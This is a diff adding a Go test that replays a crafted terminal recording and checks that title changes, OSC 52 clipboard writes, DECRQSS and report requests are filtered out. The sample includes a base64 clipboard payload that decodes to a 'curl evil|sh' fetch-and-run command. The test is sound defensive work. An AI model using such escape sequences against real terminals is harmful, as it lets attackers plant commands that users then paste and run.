@@ -103,3 +103,35 @@ func TestAsciinemaPlaysExport(t *testing.T) {
 		t.Fatalf("asciinema printed no login prompt:\n%.300s", out)
 	}
 }
+
+// TestReplayFilters: a recording whose server wrote a window title, the
+// clipboard (OSC 52), a DECRQSS and report requests (also in 8-bit form)
+// replays with its colours, cursor moves and line drawing but none of those;
+// --export still gives the recording as it is.
+func TestReplayFilters(t *testing.T) {
+	p := filepath.Join(t.TempDir(), "evil.cast")
+	cast := `{"version":2,"width":80,"height":24}
+[0.1, "o", "\u001b]0;owned\u0007\u001b[31mred\u001b[0m \u001b]52;c;Y3VybCBldmlsfHNo\u0007"]
+[0.2, "o", "\u001b[6n\u001b[c\u001bP$qm\u001b\\\u009b6n\u009d2;t\u009c\u001b(0lqk\u001b(B\u001b[2;5Hok\r\n"]
+[0.3, "o", "\u001b]5"]
+[0.4, "o", "2;c;ZXZpbA==\u0007end"]
+`
+	os.WriteFile(p, []byte(cast), 0o600)
+	r := run(t, "replay", "--speed", "1000", p)
+	if r.code != 0 {
+		t.Fatalf("exit %d %s", r.code, r.stderr)
+	}
+	for _, keep := range []string{"\x1b[31mred\x1b[0m", "\x1b(0lqk\x1b(B", "\x1b[2;5Hok\r\n", "end"} {
+		if !strings.Contains(r.stdout, keep) {
+			t.Errorf("lost %q: %q", keep, r.stdout)
+		}
+	}
+	for _, drop := range []string{"\x1b]", "owned", "Y3Vy", "ZXZp", "\x1b[6n", "\x1b[c", "\x1bP", "\u009b", "\u009d", "\x1b[?6n"} {
+		if strings.Contains(r.stdout, drop) {
+			t.Errorf("passed %q: %q", drop, r.stdout)
+		}
+	}
+	if ex := run(t, "replay", "--export", "cast", p); ex.stdout != cast {
+		t.Errorf("export changed the recording")
+	}
+}
